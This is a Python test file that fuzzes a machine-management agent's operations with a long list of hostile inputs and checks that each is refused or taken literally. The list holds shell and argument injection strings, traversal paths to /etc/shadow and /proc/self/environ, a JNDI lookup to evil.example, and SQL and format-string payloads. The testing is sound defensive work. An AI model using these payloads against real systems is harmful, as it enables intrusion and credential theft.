"""What callers may try: it is refused in one line, or taken literally, and nothing comes of it.

Each value goes into every text that any operation takes, alone and as the end of a path, on an
agent that may do all there is to do.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from spinal.bus.errors import CallError

from .conftest import Start, World

#: What is not to happen is that this file appears.
TOUCH = "touch CANARY"

HOSTILE = [
    f"; {TOUCH}",
    f"& {TOUCH} &",
    f"| {TOUCH}",
    f"|| {TOUCH}",
    f"&& {TOUCH}",
    f"$({TOUCH})",
    f"`{TOUCH}`",
    f"\n{TOUCH}\n",
    f"x\r\n{TOUCH}",
    f"'; {TOUCH}; '",
    f'"; {TOUCH}; "',
    f"x' || {TOUCH} #",
    f"${{IFS}}{TOUCH}",
    f"$IFS$9{TOUCH}",
    f"<({TOUCH})",
    "> CANARY",
    f"web;{TOUCH}",
    f"web $({TOUCH})",
    f"web\n{TOUCH}",
    "web\0",
    "web stop",
    "web/../web",
    "web.service.service",
    "./web",
    "../init.d/web",
    "/etc/init.d/web",
    "-",
    "--",
    "-h",
    "--help",
    "--version",
    "-rf",
    "--root=/",
    "--host=evil.example",
    "-H evil.example",
    "-M container",
    "--now",
    "--force",
    "--output=json",
    "--file=/etc/shadow",
    "-f",
    "@file",
    "*",
    "?",
    "**",
    "[!x]*",
    "[",
    "[[[[[",
    "{a,b}",
    "(?:a+)+$",
    "a" * 200,
    "*a" * 90,
    "~",
    "~root",
    "..",
    ".",
    "/",
    "//",
    "/etc/shadow",
    "/proc/self/environ",
    "/dev/zero",
    "../../../../etc/shadow",
    "..%2f..%2fetc%2fshadow",
    "..\\..\\etc\\shadow",
    "....//....//etc/shadow",
    "%00",
    "%s%s%s%n",
    "{0}",
    "{name}",
    "${jndi:ldap://evil.example/a}",
    "' OR 1=1 --",
    "<x xmlns='jabber:client'/>",
    "</body><iq/>",
    "]]>",
    "&lt;&amp;",
    "\0",
    "\0\0\0",
    "\x01\x02\x03",
    "\x1b[2J\x1b[31mred",
    "\x7f",
    "\u202egnp.exe",
    "\u200b",
    "\ufeff",
    "\ufffd",
    "\u2028",
    "é" * 60,
    "e\u0301",
    "\U0001d568\U0001d556\U0001d553",  # web, in other letters
    "🦴" * 40,
    "\uff57\uff45\uff42",  # and in others
    "",
    " ",
    "\t",
    " web",
    "web ",
    "NaN",
    "null",
    "0",
    "-1",
    "1e309",
    "true",
    "CON",
    "x" * 4096,
    "/" * 4096,
    "../" * 1300,
    "/" + "x" * 300,
    "\0" * 4096,
    "<" * 4096,
    "x" * 30_000,
]

#: Operation -> each of its texts, with what else it wants.
TEXTS: dict[str, dict[str, dict[str, Any]]] = {
    "/packages": {"name": {}, "version": {}},
    "/processes": {"name": {"by": "pid"}, "user": {"by": "pid"}},
    "/services/list": {"match": {}},
    "/services/show": {"name": {}},
    **{
        f"/services/{verb}": {"name": {}}
        for verb in ("start", "stop", "restart", "enable", "disable")
    },
    "/log": {"file": {}, "service": {}},
    "/files/list": {"path": {}, "match": {"path": "READ"}, "after": {"path": "READ"}},
    "/files/stat": {"path": {}},
    "/files/read": {"path": {}},
    "/files/write": {"path": {"content": "BLOB"}, "mode": {"path": "READ/x", "content": "BLOB"}},
    "/files/remove": {"path": {}},
    "/disk/plan": {"rule": {}},
    "/disk/clean": {"rule": {"plan": "x"}, "plan": {"rule": "old"}},
    "/reboot": {"confirm": {}},
    "/shutdown": {"confirm": {}},
}

#: Texts that are one of a few words; others are refused before the agent looks at them.
CHOICES = {"by", "state", "signal"}


@dataclass
class Trap:
    """A machine in a folder, and what would be seen of a mistake."""

    root: Path

    @property
    def read(self) -> Path:
        return self.root / "read"

    @property
    def write(self) -> Path:
        return self.root / "write"

    def outside(self) -> dict[str, str]:
        """All files but those that may be written, with their content."""
        return {
            str(path): path.read_text()
            for path in sorted(self.root.rglob("*"))
            if path.is_file() and self.write not in path.parents
        }

    def ran(self) -> set[str]:
        """What the one service was run with."""
        file = self.root.parent / "ran"
        return set(file.read_text().splitlines()) if file.exists() else set()


@pytest.fixture
def trap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Trap:
    trap = Trap(tmp_path / "trap")
    for folder in (trap.read, trap.write, trap.root / "init.d", trap.root / "logs"):
        folder.mkdir(parents=True)
    script = trap.root / "init.d" / "web"
    script.write_text(f'#!/bin/sh\necho "$@" >> {tmp_path}/ran\ncase $1 in status) exit 0;; esac\n')
    script.chmod(0o755)
    (trap.read / "a.txt").write_text("quiet")
    (trap.root / "secret").write_text("SECRET")
    (trap.root / "logs" / "app.log").write_text("line\n")
    # A shell that ran would do so here.
    monkeypatch.chdir(trap.root)
    return trap


@pytest.fixture
async def world(start: Start, trap: Trap) -> AsyncGenerator[World]:
    root, do = trap.root, json.dumps(["touch", str(trap.root / "went-down")])
    async with start(
        f"""\
services: {{manager: sysv, scripts: {root}/init.d, change: ["*"]}}
logs: {{files: ["{root}/logs/*.log"], services: ["*"]}}
files: {{read: [{root}/read], write: [{root}/write]}}
disk: {{rules: {{old: {{folder: {root}/read, match: "*.none"}}}}}}
processes: {{arguments: true, signal: [{{name: no-such, signals: [KILL]}}]}}
power: {{reboot: {{command: {do}}}, shutdown: {{command: {do}}}}}
"""
    ) as world:
        yield world


def calls(value: str, trap: Trap, blob: Any) -> Iterator[tuple[str, dict[str, Any]]]:
    """Give each way in which a value can be said."""
    known = {"READ": str(trap.read), "READ/x": str(trap.read / "x"), "BLOB": blob}
    for op, texts in TEXTS.items():
        for name, more in texts.items():
            more = {key: known.get(item, item) for key, item in more.items()}
            yield op, {name: value, **more}
            if name in ("path", "file"):
                for folder in (trap.read, trap.write, trap.root / "logs"):
                    yield op, {name: f"{folder}/{value}", **more}


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: f"{value[:16]!r}-{len(value)}")
async def test_nothing_comes_of_it(world: World, trap: Trap, value: str) -> None:
    before = trap.outside()

    async def one(op: str, args: dict[str, Any]) -> None:
        if op in ("/reboot", "/shutdown") and not value:
            return  # That is the first of the two steps.
        try:
            answer = await world.call(op, **args).result()
        except CallError as exc:
            assert exc.reason in ("refused", "bad-arguments", "too-large"), (op, args, str(exc))
            assert len(str(exc)) < 1100 and "\n" not in str(exc) and "SECRET" not in str(exc)
        else:
            assert "SECRET" not in json.dumps(answer)

    async with asyncio.timeout(60):
        for op, args in calls(value, trap, world.blob(b"content")):
            await one(op, args)
    assert trap.outside() == before
    assert trap.ran() <= {"status"}
    assert not any(b"SECRET" in data for data in world.shelf.kept.values())
    assert (await world.ask("/services/show", name="web"))["state"] == "running"


def test_no_text_is_left_out(trap: Trap) -> None:
    """So that an operation that is added later is tried as well."""
    (trap.root / "machine.yaml").write_text(
        "services: {change: [x]}\nlogs: {files: [/x]}\nfiles: {read: [/x], write: [/x]}\n"
        "disk: {rules: {x: {folder: /x, match: x}}}\npower: {reboot: true, shutdown: true}\n"
        "processes: {signal: [{name: x}]}\n"
    )
    from spinal.agents.machine import make

    found: dict[str, set[str]] = {}
    for path, operation in make(trap.root / "machine.yaml").operations.items():
        properties: Any = operation.public.args.get("properties", {})
        texts = {name for name, schema in properties.items() if schema.get("type") == "string"}
        if texts - CHOICES:
            found[path.removeprefix("/machine")] = texts - CHOICES
    assert found == {op: set(texts) for op, texts in TEXTS.items()}


@pytest.mark.parametrize("op", TEXTS)
def test_a_megabyte_is_refused_before_anything_is_done(world: World, op: str) -> None:
    operation = world.agent.operations[f"/machine{op}"]
    for name in TEXTS[op]:
        for value in ("x" * 10**6, "\0" * 10**6, "/" * 10**6):
            with pytest.raises(CallError) as caught:
                operation.signature.convert({name: value}, lambda ref: pytest.fail("fetched"))
            assert caught.value.reason == "bad-arguments" and len(str(caught.value)) < 400
